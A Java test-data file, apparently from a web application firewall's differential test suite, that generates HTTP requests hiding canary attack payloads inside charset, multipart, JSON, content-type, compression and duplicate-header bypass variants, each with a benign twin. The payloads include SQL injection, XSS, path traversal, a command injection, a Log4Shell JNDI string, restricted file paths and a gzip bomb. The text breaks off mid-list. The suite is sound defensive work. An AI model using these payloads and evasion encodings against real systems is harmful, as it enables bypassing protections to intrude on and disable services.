package dev.bulwark.waf.differential;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.function.Function;
import java.util.function.UnaryOperator;

import static dev.bulwark.waf.differential.Encode.concat;
import static dev.bulwark.waf.differential.Encode.form;
import static dev.bulwark.waf.differential.Encode.json;
import static dev.bulwark.waf.differential.Encode.pct;
import static dev.bulwark.waf.differential.Encode.utf8;
import static dev.bulwark.waf.differential.Multipart.BOUNDARY;

/**
 * The data of the differential suite: for every bypass class of issue 7, variants generated the
 * way an attacker would (case, whitespace, quoting, order, duplication, encodings, line ends),
 * each carrying each canary payload in the position under test, plus a benign twin per
 * structure that must pass.
 *
 * <p>A benign twin is the same request with a harmless value where the structure itself is
 * legitimate (a header, a content type, a compressed body); where the structure is the anomaly
 * (two charsets, {@code ..;}, LF-only multipart), the twin is its well-formed form. So a fix that
 * refuses ambiguity passes, and a fix that refuses a whole feature (compressed bodies, text/plain,
 * custom headers) fails.
 */
final class DifferentialCases {

    /** Attack payloads the bundled rules block at PL1 in a plain query argument (see group "baseline"). */
    static final List<String> CANARIES = List.of("' OR 1=1--", "<script>alert(1)</script>",
            "../../../../etc/passwd", ";cat /etc/passwd", "${jndi:ldap://x/a}");
    /** Restricted files the bundled rules block in a plain URL path. */
    static final List<String> PATHS = List.of("/.git/config", "/WEB-INF/web.xml", "/etc/passwd", "/.env");
    static final String HARMLESS = "hello world";

    enum Kind { ATTACK, BENIGN, BOMB }

    record Case(String group, String name, Kind kind, Probe probe, byte[] request) {
        @Override
        public String toString() {
            return group + " | " + name + (kind == Kind.ATTACK ? " | " + Probe.shorten(probe.label()) : "");
        }
    }

    private final List<Case> cases = new ArrayList<>();
    private final Set<String> twins = new HashSet<>();

    /** Built once: the list holds multi-megabyte bodies (a bomb, padding) that are costly to make. */
    private static List<Case> all;

    static synchronized List<Case> all() {
        if (all == null) {
            all = build();
        }
        return all;
    }

    private static List<Case> build() {
        DifferentialCases c = new DifferentialCases();
        c.baseline();
        c.charsets();
        c.boundaries();
        c.dispositions();
        c.multipartFraming();
        c.jsonBodies();
        c.contentTypes();
        c.contentEncodings();
        c.duplicateFraming();
        c.headers();
        c.paths();
        c.requestLine();
        c.unicode();
        c.parameters();
        c.messageFraming();
        return List.copyOf(c.cases);
    }

    static List<Case> attacks() {
        return all().stream().filter(c -> c.kind() != Kind.BENIGN).toList();
    }

    static List<Case> benign() {
        return all().stream().filter(c -> c.kind() == Kind.BENIGN).toList();
    }

    // ---- generation helpers -------------------------------------------------------------------

    /** One attack case per canary; the twin is the same template with the harmless value. */
    private void values(String group, String name, Function<String, byte[]> template) {
        values(group, name, template, template.apply(HARMLESS));
    }

    /** One attack case per canary, with an explicit well-formed twin (null: none). */
    private void values(String group, String name, Function<String, byte[]> template, byte[] twin) {
        values(group, name, UnaryOperator.identity(), template, twin, HARMLESS);
    }

    private void values(String group, String name, UnaryOperator<String> disguise, Function<String, byte[]> template,
                        byte[] twin, String twinMarker) {
        for (String canary : CANARIES) {
            cases.add(new Case(group, name, Kind.ATTACK, Probe.value(canary), template.apply(disguise.apply(canary))));
        }
        twin(group, name, twin, Probe.value(twinMarker));
    }

    private void twin(String group, String name, byte[] twin, Probe marker) {
        if (twin != null && twins.add(group + new String(twin, StandardCharsets.ISO_8859_1))) {
            cases.add(new Case(group, "twin of " + name, Kind.BENIGN, marker, twin));
        }
    }

    static RawHttp.Builder post(String contentType) {
        RawHttp.Builder b = RawHttp.request("POST", "/submit");
        return contentType == null ? b : b.header("Content-Type", contentType);
    }

    static byte[] post(String contentType, byte[] body) {
        return post(contentType).body(body).build();
    }

    static byte[] post(String contentType, String body) {
        return post(contentType, utf8(body));
    }

    static byte[] formPost(String v) {
        return post("application/x-www-form-urlencoded", "q=" + form(v));
    }

    static byte[] multipartPost(Multipart m) {
        return post("multipart/form-data; boundary=" + BOUNDARY, m.build());
    }

    static byte[] jsonPost(String v) {
        return post("application/json", "{\"q\":\"" + json(v) + "\"}");
    }

    static byte[] get(String target) {
        return RawHttp.request("GET", target).build();
    }

    // ---- the groups ---------------------------------------------------------------------------

    /** The canary where every parser agrees: must be blocked, or nothing else means anything. */
    private void baseline() {
        String g = "baseline";
        values(g, "query value", v -> get("/search?q=" + pct(v)));
        values(g, "query name", v -> get("/search?" + pct(v) + "=1"));
        values(g, "form value", DifferentialCases::formPost);
        values(g, "multipart field", v -> multipartPost(new Multipart().field("q", v)));
        values(g, "json value", DifferentialCases::jsonPost);
        values(g, "cookie (escaped value)", v -> RawHttp.request("GET", "/").header("Cookie", "q=" + pct(v)).build());
        values(g, "user-agent", v -> RawHttp.request("GET", "/").header("User-Agent", v).build());
    }

    /** Class 1: the charset of a form, stated ambiguously or as one the WAF does not decode. */
    private void charsets() {
        String g = "charset";
        byte[] twin = post("application/x-www-form-urlencoded; charset=utf-8", "q=" + form(HARMLESS));
        String ct = "application/x-www-form-urlencoded";
        List<String> shapes = List.of("%s; charset=%s; charset=utf-8", "%s; charset=utf-8; charset=%s",
                "%s; charset=%s", "%s; charset=\"%s\"", "%s;CHARSET=%s", "%s; charset = %s",
                "%s; foo=bar; charset=%s", "%s;charset=utf-8;charset=%s");
        for (String shape : shapes) {
            String header = String.format(shape, ct, "ibm037");
            values(g, header + " (IBM037 escapes)",
                    v -> post(header, "q=" + pct(v.getBytes(Charset.forName("IBM037")))), twin);
        }
        for (String cs : List.of("IBM500", "IBM1047")) {
            Charset charset = Charset.forName(cs);
            for (String shape : List.of("%s; charset=%s", "%s; charset=%s; charset=utf-8")) {
                String header = String.format(shape, ct, cs);
                values(g, header + " (escapes)", v -> post(header, "q=" + pct(v.getBytes(charset))), twin);
            }
        }
        // Neither Jetty nor Tomcat decodes these today (inert here); other stacks may.
        values(g, ct + "; charset=utf-16be (escapes)",
                v -> post(ct + "; charset=utf-16be", "q=" + pct(v.getBytes(StandardCharsets.UTF_16BE))), twin);
        values(g, ct + "; charset=utf-16le (whole body UTF-16LE)",
                v -> post(ct + "; charset=utf-16le", ("q=" + form(v)).getBytes(StandardCharsets.UTF_16LE)), twin);
        values(g, ct + "; charset=utf-7",
                v -> post(ct + "; charset=utf-7", "q=" + form(Encode.utf7(v))), twin);
        values(g, ct + " _charset_=IBM037 field",
                v -> post(ct, "_charset_=IBM037&q=" + pct(v.getBytes(Charset.forName("IBM037")))), twin);

        byte[] mpTwin = multipartPost(new Multipart().field("q", HARMLESS));
        Charset ibm037 = Charset.forName("IBM037");
        values(g, "multipart; charset=ibm037 (raw IBM037 field)",
                v -> post("multipart/form-data; boundary=" + BOUNDARY + "; charset=ibm037",
                        new Multipart().part(v.getBytes(ibm037), "Content-Disposition: form-data; name=\"q\"").build()),
                mpTwin);
        values(g, "multipart _charset_ part first (IBM037)",
                v -> multipartPost(new Multipart().field("_charset_", "IBM037")
                        .part(v.getBytes(ibm037), "Content-Disposition: form-data; name=\"q\"")), mpTwin);
        values(g, "multipart _charset_ part last (IBM037)",
                v -> multipartPost(new Multipart().part(v.getBytes(ibm037), "Content-Disposition: form-data; name=\"q\"")
                        .field("_charset_", "IBM037")), mpTwin);
        values(g, "multipart _charset_=UTF-16BE",
                v -> multipartPost(new Multipart().field("_charset_", "UTF-16BE")
                        .part(v.getBytes(StandardCharsets.UTF_16BE), "Content-Disposition: form-data; name=\"q\"")), mpTwin);
        for (String cs : List.of("IBM037", "UTF-16BE", "UTF-7")) {
            values(g, "multipart part Content-Type charset=" + cs,
                    v -> multipartPost(new Multipart().part(
                            cs.equals("UTF-7") ? utf8(Encode.utf7(v)) : v.getBytes(Charset.forName(cs)),
                            "Content-Disposition: form-data; name=\"q\"", "Content-Type: text/plain; charset=" + cs)),
                    mpTwin);
        }
        byte[] jsonTwin = jsonPost(HARMLESS);
        for (String cs : List.of("UTF-16BE", "UTF-16LE", "UTF-32LE")) {
            Charset charset = Charset.forName(cs);
            values(g, "json body in " + cs + " (no charset)",
                    v -> post("application/json", ("{\"q\":\"" + json(v) + "\"}").getBytes(charset)), jsonTwin);
            values(g, "json body in " + cs + "; charset=" + cs,
                    v -> post("application/json; charset=" + cs, ("{\"q\":\"" + json(v) + "\"}").getBytes(charset)), jsonTwin);
        }
        values(g, "json; charset=ibm037 (IBM037 body)",
                v -> post("application/json; charset=ibm037", ("{\"q\":\"" + json(v) + "\"}").getBytes(ibm037)), jsonTwin);
    }

    /** Class 2: the boundary parameter duplicated, quoted, cased or malformed. */
    private void boundaries() {
        String g = "boundary";
        byte[] twin = multipartPost(new Multipart().field("q", HARMLESS));
        String other = "AaB03x";
        record Shape(String header, String used) { }
        List<Shape> shapes = List.of(
                new Shape("multipart/form-data; boundary=" + other + "; boundary=" + BOUNDARY, BOUNDARY),
                new Shape("multipart/form-data; boundary=" + BOUNDARY + "; boundary=" + other, BOUNDARY),
                new Shape("multipart/form-data; boundary=" + BOUNDARY + "; boundary=" + BOUNDARY, BOUNDARY),
                new Shape("multipart/form-data; boundary=\"" + BOUNDARY + "\"", BOUNDARY),
                new Shape("multipart/form-data; BOUNDARY=" + BOUNDARY, BOUNDARY),
                new Shape("multipart/form-data; Boundary=\"" + BOUNDARY + "\"", BOUNDARY),
                new Shape("multipart/form-data;boundary=" + BOUNDARY, BOUNDARY),
                new Shape("multipart/form-data ; boundary=" + BOUNDARY, BOUNDARY),
                new Shape("multipart/form-data; boundary =" + BOUNDARY, BOUNDARY),
                new Shape("Multipart/Form-Data; boundary=" + BOUNDARY, BOUNDARY),
                new Shape("MULTIPART/FORM-DATA; BOUNDARY=" + BOUNDARY, BOUNDARY),
                new Shape("multipart/form-data; charset=utf-8; boundary=" + BOUNDARY, BOUNDARY),
                new Shape("multipart/form-data; boundary=" + BOUNDARY + "; charset=utf-8", BOUNDARY),
                new Shape("multipart/form-data; boundary=\"Zz Y;98w\"", "Zz Y;98w"),
                new Shape("multipart/form-data; boundary=\"Zz Y;98w\"", "Zz Y"),
                new Shape("multipart/form-data; boundary=\"" + BOUNDARY, BOUNDARY),
                new Shape("multipart/form-data; boundary=" + BOUNDARY + " ", BOUNDARY),
                new Shape("multipart/form-data; boundary=" + "b".repeat(75), "b".repeat(75)),
                new Shape("multipart/form-data; boundary=" + BOUNDARY + ", boundary=" + other, BOUNDARY),
                new Shape("multipart/form-data; boundary=" + BOUNDARY + "x", BOUNDARY),
                new Shape("multipart/form-data; boundary=" + BOUNDARY.substring(0, 4), BOUNDARY),
                new Shape("multipart/mixed; boundary=" + BOUNDARY, BOUNDARY),
                new Shape("multipart/form-data", BOUNDARY));
        for (Shape s : shapes) {
            values(g, s.header() + " (body uses " + s.used() + ")",
                    v -> post(s.header(), new Multipart().boundary(s.used()).field("q", v).build()), twin);
        }
        values(g, "two boundaries, fake part under the first, harmless under the last",
                v -> post("multipart/form-data; boundary=" + other + "; boundary=" + BOUNDARY, concat(
                        new Multipart().boundary(other).field("q", v).build(),
                        new Multipart().field("a", "b").build())), twin);
        values(g, "two boundaries, harmless part under the first, payload under the last",
                v -> post("multipart/form-data; boundary=" + other + "; boundary=" + BOUNDARY, concat(
                        new Multipart().boundary(other).field("a", "b").build(),
                        new Multipart().field("q", v).build())), twin);
    }

    /** Classes 3-5: Content-Disposition forms that parsers disagree on. */
    private void dispositions() {
        String g = "disposition";
        byte[] twin = multipartPost(new Multipart().field("q", HARMLESS));
        List<String[]> headerSets = List.of(
                new String[] {"Content-Disposition: attachment; name=\"q\""},
                new String[] {"Content-Disposition: inline; name=\"q\""},
                new String[] {"Content-Disposition: name=\"q\""},
                new String[] {"Content-Disposition: ; name=\"q\""},
                new String[] {"Content-Disposition: form-data-x; name=\"q\""},
                new String[] {"Content-Disposition: form-data; name*=UTF-8''q"},
                new String[] {"Content-Disposition: form-data; name*=utf-8''%71"},
                new String[] {"Content-Disposition: form-data; name=\"x\"; name*=UTF-8''q"},
                new String[] {"Content-Disposition: form-data; name=\"f\"; filename=\"a.txt\"", "Content-Disposition: form-data; name=\"q\""},
                new String[] {"Content-Disposition: form-data; name=\"q\"", "Content-Disposition: form-data; name=\"f\"; filename=\"a.txt\""},
                new String[] {"Content-Disposition: form-data; name=\"x\"", "Content-Disposition: form-data; name=\"q\""},
                new String[] {"Content-Disposition: form-data; name=\"q\"", "Content-Disposition: form-data; name=\"x\""},
                new String[] {"Content-Disposition: form-data; name=\"x\"; name=\"q\""},
                new String[] {"Content-Disposition: form-data; name=\"q\"; name=\"x\""},
                new String[] {"Content-Disposition: form-data; name=q"},
                new String[] {"Content-Disposition: form-data;name=\"q\""},
                new String[] {"Content-Disposition: FORM-DATA; NAME=\"q\""},
                new String[] {"content-disposition: form-data; name=\"q\""},
                new String[] {"Content-Disposition:form-data; name=\"q\""},
                new String[] {"Content-Disposition : form-data; name=\"q\""},
                new String[] {"Content-Disposition: form-data; name=\"q\"; filename=\"\""},
                new String[] {"Content-Disposition: form-data; name=\"q\\\"; filename=\\\"a.txt\""},
                new String[] {"Content-Disposition: form-data; name=\"q\"; filename*=UTF-8''a.txt"},
                new String[] {"Content-Disposition: form-data; filename*=UTF-8''a.txt; name=\"q\""},
                new String[] {"Content-Disposition: form-data; name=\"x;name=q\""},
                new String[] {"Content-Disposition: form-data; name=\"q\"", "Content-Type: application/octet-stream"},
                new String[] {"Content-Disposition: form-data;\r\n name=\"q\""},
                new String[] {"Content-Disposition: form-data;\r\n\tname=\"q\""},
                new String[] {"Content-Type: text/plain"},
                new String[] {});
        for (String[] headers : headerSets) {
            values(g, String.join(" + ", headers).replace("\r\n", "\\r\\n"),
                    v -> multipartPost(new Multipart().part(v, headers)), twin);
        }
        values(g, "payload as the part name", v -> multipartPost(new Multipart().field(v, "1")), twin);
        values(g, "payload as the file name", v -> multipartPost(new Multipart().part("x",
                "Content-Disposition: form-data; name=\"f\"; filename=\"" + v.replace("\"", "%22") + "\"")),
                multipartPost(new Multipart().part("x", "Content-Disposition: form-data; name=\"f\"; filename=\"hello world.txt\"")));
        // Browsers send no part Content-Type parameter, other clients only a charset: any other
        // parameter is the anomaly (strict parsing refuses it); the twin has a charset and the
        // harmless value as content.
        values(g, "payload in a part's Content-Type", v -> multipartPost(new Multipart().part("x",
                "Content-Disposition: form-data; name=\"q\"", "Content-Type: text/plain; x=\"" + v.replace("\"", "") + "\"")),
                multipartPost(new Multipart().part(HARMLESS, "Content-Disposition: form-data; name=\"q\"", "Content-Type: text/plain; charset=UTF-8")));
    }

    /** Multipart framing: line ends, preamble/epilogue, unterminated parts, transfer encodings. */
    private void multipartFraming() {
        String g = "multipart-framing";
        byte[] twin = multipartPost(new Multipart().field("q", HARMLESS));
        values(g, "LF-only line ends", v -> multipartPost(new Multipart().eol("\n").field("q", v)), twin);
        values(g, "LF-only part headers", v -> multipartPost(new Multipart().headerEol("\n").field("q", v)), twin);
        values(g, "CR-only line ends", v -> multipartPost(new Multipart().eol("\r").field("q", v)), twin);
        values(g, "preamble text", v -> multipartPost(new Multipart().preamble("This is a preamble.\r\n").field("q", v)), twin);
        values(g, "payload in the preamble", v -> multipartPost(new Multipart().preamble(v + "\r\n").field("a", "b")), twin);
        values(g, "fake part in the preamble (LF boundary)", v -> multipartPost(new Multipart()
                .preamble("--" + BOUNDARY + "\nContent-Disposition: form-data; name=\"q\"\n\n" + v + "\n").field("a", "b")), twin);
        values(g, "payload in the epilogue", v -> multipartPost(new Multipart().field("a", "b").epilogue(v + "\r\n")), twin);
        values(g, "fake part after the close delimiter", v -> multipartPost(new Multipart().field("a", "b")
                .epilogue("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + v + "\r\n--" + BOUNDARY + "--\r\n")), twin);
        values(g, "unterminated final part", v -> multipartPost(new Multipart().field("q", v).unterminated()), twin);
        values(g, "unterminated, no line end", v -> post("multipart/form-data; boundary=" + BOUNDARY,
                "--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + v), twin);
        values(g, "close delimiter without line end", v -> post("multipart/form-data; boundary=" + BOUNDARY,
                "--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + v + "\r\n--" + BOUNDARY + "--"), twin);
        values(g, "whitespace after the boundary", v -> post("multipart/form-data; boundary=" + BOUNDARY,
                "--" + BOUNDARY + "  \t\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + v + "\r\n--" + BOUNDARY + "--\r\n"), twin);
        values(g, "no blank line after part headers", v -> post("multipart/form-data; boundary=" + BOUNDARY,
                "--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"q\"\r\n" + v + "\r\n--" + BOUNDARY + "--\r\n"), twin);
        values(g, "empty part then field", v -> multipartPost(new Multipart().part("").field("q", v)), twin);
        values(g, "same name twice, payload second", v -> multipartPost(new Multipart().field("q", "a").field("q", v)), twin);
        values(g, "40 parts then field", v -> {
            Multipart m = new Multipart();
            for (int i = 0; i < 40; i++) {
                m.field("a" + i, "1");
            }
            return multipartPost(m.field("q", v));
        }, twin);
        values(g, "nested multipart/mixed", v -> multipartPost(new Multipart().part(
                new Multipart().boundary("inner").part(v, "Content-Disposition: form-data; name=\"q\"").build(),
                "Content-Disposition: form-data; name=\"files\"", "Content-Type: multipart/mixed; boundary=inner")), twin);
        values(g, "Content-Transfer-Encoding: base64", v -> multipartPost(new Multipart().part(Encode.base64(v),
                "Content-Disposition: form-data; name=\"q\"", "Content-Transfer-Encoding: base64")), twin);
        values(g, "Content-Transfer-Encoding: quoted-printable", v -> multipartPost(new Multipart().part(Encode.quotedPrintable(v),
                "Content-Disposition: form-data; name=\"q\"", "Content-Transfer-Encoding: quoted-printable")), twin);
        values(g, "Content-Transfer-Encoding: 8bit", v -> multipartPost(new Multipart().part(v,
                "Content-Disposition: form-data; name=\"q\"", "Content-Transfer-Encoding: 8bit")), twin);
        values(g, "chunked multipart", v -> post("multipart/form-data; boundary=" + BOUNDARY)
                .header("Transfer-Encoding", "chunked").noAutoLength()
                .body(RawHttp.chunked(new Multipart().field("q", v).build(), 5)).build(), twin);
    }

    /** Class 6: JSON that a strict parser rejects and a lenient one reads. */
    private void jsonBodies() {
        String g = "json";
        byte[] twin = jsonPost(HARMLESS);
        List<String> shapes = List.of(
                "{\"q\":\"%s\",\"n\":NaN}",
                "{\"n\":NaN,\"q\":\"%s\"}",
                "{\"q\":\"%s\",\"n\":-Infinity}",
                "{\"n\":Infinity,\"q\":\"%s\"}",
                "{/* c */\"q\":\"%s\"}",
                "// c\n{\"q\":\"%s\"}",
                "# c\n{\"q\":\"%s\"}",
                "{q:\"%s\"}",
                "{\"q\":\"%s\u0001\"}",
                "{\"q\":\"a\n%s\"}",
                "{\"q\":\"%s\t\"}",
                "{\"q\":\"%s\",}",
                "[\"%s\",]",
                "[,\"%s\"]",
                "\uFEFF{\"q\":\"%s\"}",
                "{\"a\":1}{\"q\":\"%s\"}",
                "{\"q\":\"%s\"}x",
                "{\"q\":\"%s\"",
                "{\"q\":\"x\",\"q\":\"%s\"}",
                "{\"n\":1e999999,\"q\":\"%s\"}",
                "{\"n\":+1,\"q\":\"%s\"}",
                "{\"n\":01,\"q\":\"%s\"}",
                "{\"n\":.5,\"q\":\"%s\"}",
                "{\"q\":[\"%s\"]}",
                "\"%s\"",
                "{\"q\":\"\\x\",\"r\":\"%s\"}");
        for (String shape : shapes) {
            values(g, "application/json " + shape.replace("\n", "\\n").replace("\u0001", "\\x01")
                    .replace("\t", "\\t").replace("\uFEFF", "BOM"), v -> post("application/json", String.format(shape, json(v))), twin);
        }
        values(g, "single quotes", v -> post("application/json", "{'q':'" + json(v).replace("'", "\\'") + "'}"), twin);
        values(g, "every character \\u-escaped", v -> post("application/json", "{\"q\":\"" + Encode.jsonEscapedAll(v) + "\"}"), twin);
        values(g, "escaped quote as \\'", v -> post("application/json", "{\"q\":\"" + json(v).replace("'", "\\'") + "\"}"), twin);
        values(g, "nested 100 deep", v -> post("application/json", "[".repeat(100) + "\"" + json(v) + "\"" + "]".repeat(100)), twin);
        values(g, "nested 1200 deep", v -> post("application/json", "[".repeat(1200) + "\"" + json(v) + "\"" + "]".repeat(1200)), twin);
        values(g, "payload as a key", v -> post("application/json", "{\"" + json(v) + "\":1}"), twin);
    }

    /** Class 9 and the media-type spelling of class 1: bodies under types the WAF may not parse. */
    private void contentTypes() {
        String g = "content-type";
        for (String ct : List.of("application/json;charset=utf-8", "application/json; charset=UTF-8", "application/JSON",
                "APPLICATION/JSON", "application/json ; charset=utf-8", "application/json;", "application/vnd.api+json",
                "application/problem+json", "application/merge-patch+json", "application/x-json", "text/json",
                "text/x-json", "application/javascript", "text/plain", "text/plain; charset=utf-8", "application/octet-stream",
                "*/*", "application/x-www-form-urlencoded", "application/xml", "foo/bar", "")) {
            // An empty or listed media type is malformed: its twin is the well-formed request.
            values(g, "json body as '" + ct + "'", v -> post(ct, "{\"q\":\"" + json(v) + "\"}"),
                    ct.isEmpty() ? jsonPost(HARMLESS) : post(ct, "{\"q\":\"" + json(HARMLESS) + "\"}"));
        }
        values(g, "json body, no Content-Type", v -> post(null, "{\"q\":\"" + json(v) + "\"}"));
        // JSON text declared as a form: catch-all JSON parsers read it as JSON.
        String formType = "application/x-www-form-urlencoded";
        values(g, "json array as a form", v -> post(formType, "[\"" + json(v) + "\"]"));
        values(g, "nested json as a form (charset)", v -> post(formType + "; charset=UTF-8",
                " {\"a\":{\"b\":[1,\"" + json(v) + "\"]}}"));
        values(g, "json as a form, gzip", v -> post(formType).header("Content-Encoding", "gzip")
                .body(Encode.gzip(utf8("{\"q\":\"" + json(v) + "\"}"))).build());
        for (String ct : List.of("text/plain", "text/plain; charset=utf-8", "application/octet-stream", "text/html",
                "APPLICATION/X-WWW-FORM-URLENCODED", "application/x-www-form-urlencoded ; charset=utf-8",
                "application/x-www-form-urlencoded;", "application/x-url-encoded", "application/www-form-urlencoded",
                "application/x-www-form-urlencoded, text/plain")) {
            values(g, "form body as '" + ct + "'", v -> post(ct, "q=" + form(v)),
                    ct.contains(",") ? formPost(HARMLESS) : post(ct, "q=" + form(HARMLESS)));
        }
        values(g, "form body, no Content-Type", v -> post(null, "q=" + form(v)));
        values(g, "raw payload as text/plain", v -> post("text/plain", v));
        values(g, "raw payload, no Content-Type", v -> post(null, v));
        values(g, "application/csp-report", v -> post("application/csp-report",
                "{\"csp-report\":{\"document-uri\":\"" + json(v) + "\",\"violated-directive\":\"script-src\"}}"));
        values(g, "application/graphql", v -> post("application/graphql", "query { search(q: \"" + json(v) + "\") { id } }"));
        values(g, "graphql in json", v -> post("application/json",
                "{\"query\":\"query { search(q: " + json("\"" + json(v) + "\"") + ") { id } }\"}"));
        values(g, "application/json-patch+json", v -> post("application/json-patch+json",
                "[{\"op\":\"add\",\"path\":\"/q\",\"value\":\"" + json(v) + "\"}]"));
        values(g, "application/x-ndjson", v -> post("application/x-ndjson", "{\"a\":1}\n{\"q\":\"" + json(v) + "\"}\n"));
    }

    /** Class 7: compressed request bodies, and a bomb. */
    private void contentEncodings() {
        String g = "content-encoding";
        // All of these are legal HTTP (stacked codings too) except raw deflate, which RFC 9110
        // calls malformed "deflate": its twin is the zlib form.
        record Coding(String label, String header, Function<byte[], byte[]> apply, Function<byte[], byte[]> twin) { }
        List<Coding> codings = List.of(new Coding("gzip", "gzip", Encode::gzip, Encode::gzip),
                new Coding("x-gzip", "x-gzip", Encode::gzip, Encode::gzip), new Coding("GZIP", "GZIP", Encode::gzip, Encode::gzip),
                new Coding("deflate (zlib)", "deflate", Encode::zlib, Encode::zlib),
                new Coding("deflate (raw)", "deflate", Encode::rawDeflate, Encode::zlib),
                new Coding("gzip, gzip", "gzip, gzip", b -> Encode.gzip(Encode.gzip(b)), b -> Encode.gzip(Encode.gzip(b))),
                new Coding("identity, gzip", "identity, gzip", Encode::gzip, Encode::gzip),
                new Coding("' gzip '", " gzip ", Encode::gzip, Encode::gzip));
        for (Coding c : codings) {
            Function<String, byte[]> formBody = v -> utf8("q=" + form(v));
            Function<String, byte[]> jsonBody = v -> utf8("{\"q\":\"" + json(v) + "\"}");
            values(g, "form, Content-Encoding: " + c.label(), v -> post("application/x-www-form-urlencoded")
                    .header("Content-Encoding", c.header()).body(c.apply().apply(formBody.apply(v))).build(),
                    post("application/x-www-form-urlencoded").header("Content-Encoding", c.header())
                            .body(c.twin().apply(formBody.apply(HARMLESS))).build());
            values(g, "json, Content-Encoding: " + c.label(), v -> post("application/json")
                    .header("Content-Encoding", c.header()).body(c.apply().apply(jsonBody.apply(v))).build(),
                    post("application/json").header("Content-Encoding", c.header())
                            .body(c.twin().apply(jsonBody.apply(HARMLESS))).build());
        }
        values(g, "multipart, gzip", v -> post("multipart/form-data; boundary=" + BOUNDARY)
                .header("Content-Encoding", "gzip").body(Encode.gzip(new Multipart().field("q", v).build())).build());
        values(g, "text/plain, gzip", v -> post("text/plain")
                .header("Content-Encoding", "gzip").body(Encode.gzip(utf8(v))).build());
        // Repeated framing header fields are refused by strict parsing (servers read the first,
        // the last or both): a 4xx is a fine answer. The twin is the same stack as one field.
        values(g, "two Content-Encoding headers (gzip twice)", v -> post("application/x-www-form-urlencoded")
                .header("Content-Encoding", "gzip").header("Content-Encoding", "gzip")
                .body(Encode.gzip(Encode.gzip(utf8("q=" + form(v))))).build(),
                post("application/x-www-form-urlencoded").header("Content-Encoding", "gzip, gzip")
                        .body(Encode.gzip(Encode.gzip(utf8("q=" + form(HARMLESS))))).build());
        values(g, "gzip, chunked", v -> post("application/x-www-form-urlencoded").header("Content-Encoding", "gzip")
                .header("Transfer-Encoding", "chunked").noAutoLength()
                .body(RawHttp.chunked(Encode.gzip(utf8("q=" + form(v))), 7)).build());
        // Codings the WAF may not decode: refusing them is fine, so the twin has no coding...
        for (String unknown : List.of("br", "compress", "zstd", "foo")) {
            values(g, "plain form under Content-Encoding: " + unknown, v -> post("application/x-www-form-urlencoded")
                    .header("Content-Encoding", unknown).body("q=" + form(v)).build(),
                    formPost(HARMLESS));
        }
        // ...but identity is no coding at all.
        values(g, "plain form under Content-Encoding: identity", v -> post("application/x-www-form-urlencoded")
                .header("Content-Encoding", "identity").body("q=" + form(v)).build());
        values(g, "gzip header, body not compressed", v -> post("application/x-www-form-urlencoded")
                .header("Content-Encoding", "gzip").body("q=" + form(v)).build(), formPost(HARMLESS));
        cases.add(new Case(g, "gzip bomb (32 MiB form inflated)", Kind.BOMB, Probe.value("aaaaaaaaaaaaaaaa"),
                post("application/x-www-form-urlencoded").header("Content-Encoding", "gzip")
                        .body(Encode.gzipBomb(32 << 20)).build()));
    }

    /** Class 8 and relatives: the framing headers of a body given twice. */
    private void duplicateFraming() {
        String g = "duplicate-header";
        byte[] formTwin = formPost(HARMLESS);
        byte[] jsonTwin = jsonPost(HARMLESS);
        String form = "application/x-www-form-urlencoded";
        String json = "application/json";
        String mp = "multipart/form-data; boundary=" + BOUNDARY;
        values(g, "Content-Type json then form, form body",
                v -> post(json).header("Content-Type", form).body("q=" + form(v)).build(), formTwin);
        values(g, "Content-Type form then json, form body",
                v -> post(form).header("Content-Type", json).body("q=" + form(v)).build(), formTwin);
        values(g, "Content-Type json then form, json body",
                v -> post(json).header("Content-Type", form).body("{\"q\":\"" + json(v) + "\"}").build(), jsonTwin);
        values(g, "Content-Type form then json, json body",
                v -> post(form).header("Content-Type", json).body("{\"q\":\"" + json(v) + "\"}").build(), jsonTwin);
        values(g, "Content-Type text/plain then form",
                v -> post("text/plain").header("Content-Type", form).body("q=" + form(v)).build(), formTwin);
        values(g, "Content-Type form then text/plain",
                v -> post(form).header("Content-Type", "text/plain").body("q=" + form(v)).build(), formTwin);
        values(g, "Content-Type form then multipart, multipart body",
                v -> post(form).header("Content-Type", mp).body(new Multipart().field("q", v).build()).build(), formTwin);
        values(g, "Content-Type multipart then form, form body",
                v -> post(mp).header("Content-Type", form).body("q=" + form(v)).build(), formTwin);
        values(g, "Content-Type multipart then form, multipart body",
                v -> post(mp).header("Content-Type", form).body(new Multipart().field("q", v).build()).build(), formTwin);
        values(g, "Content-Type empty then form",
                v -> post("").header("Content-Type", form).body("q=" + form(v)).build(), formTwin);
        values(g, "content-type (lower case) json, Content-Type form",
                v -> RawHttp.request("POST", "/submit").header("content-type", json).header("Content-Type", form)
                        .body("q=" + form(v)).build(), formTwin);
        values(g, "Content-Type charset=ibm037 then charset=utf-8 header",
                v -> post(form + "; charset=ibm037").header("Content-Type", form + "; charset=utf-8")
                        .body("q=" + pct(v.getBytes(Charset.forName("IBM037")))).build(), formTwin);
        values(g, "Content-Type charset=utf-8 then charset=ibm037 header",
                v -> post(form + "; charset=utf-8").header("Content-Type", form + "; charset=ibm037")
                        .body("q=" + pct(v.getBytes(Charset.forName("IBM037")))).build(), formTwin);
        values(g, "two Content-Length headers, same value", v -> {
            byte[] body = utf8("q=" + form(v));
            return post(form).header("Content-Length", "" + body.length).header("Content-Length", "" + body.length)
                    .noAutoLength().body(body).build();
        }, formTwin);
        values(g, "Content-Length and chunked", v -> {
            byte[] body = utf8("q=" + form(v));
            return post(form).header("Content-Length", "" + body.length).header("Transfer-Encoding", "chunked")
                    .noAutoLength().body(RawHttp.chunked(body, 6)).build();
        }, formTwin);
    }

    /** Class 10: payloads in headers outside a fixed scanned list. */
    private void headers() {
        String g = "header";
        // Headers applications read as data (client IP, routing, locale, tokens, custom API headers).
        // Pure protocol headers the container consumes (Accept-Encoding, Cache-Control, DNT, ...)
        // are left out: issue 7 allows documented per-header exclusions for those.
        for (String name : List.of("X_Api_Version", "x_api_version", "X-Api-Version", "True-Client-IP", "X-Real-IP",
                "X-Client-IP", "Client-IP", "X-Originating-IP", "X-Original-URL", "X-Rewrite-URL",
